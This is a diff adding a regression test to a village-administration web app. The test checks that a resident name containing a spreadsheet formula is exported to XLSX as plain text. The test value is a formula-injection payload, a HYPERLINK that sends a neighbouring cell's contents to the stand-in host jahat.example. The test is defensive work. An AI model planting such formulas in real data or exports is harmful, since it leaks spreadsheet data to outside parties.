@@ -285,3 +285,15 @@ def test_stale_unfetched_pdfs_are_removed(desa_a, operator_a, settings, tmp_path
     unduhan.bersihkan(desa_a.pk, operator_a.pk)
     assert not old.exists() and new.exists()
     unduhan.bersihkan(desa_a.pk, operator_a.pk + 1)  # a folder that does not exist: nothing to do
+
+
+def test_xlsx_keeps_formula_like_names_as_text(desa_a, register_a, operator_a, client_for):
+    jahat = '=HYPERLINK("http://jahat.example/?"&B6,"klik")'
+    with scopes_disabled():
+        budi = register_a["budi"]
+        budi.nama = jahat
+        budi.save()
+    r = client_for(desa_a, operator_a).get("/admin-desa/laporan/induk/?format=xlsx")
+    ws = load_workbook(io.BytesIO(b"".join(r.streaming_content))).active
+    cells = [c for row in ws.iter_rows() for c in row if c.value == jahat]
+    assert cells and all(c.data_type == "s" for c in cells)
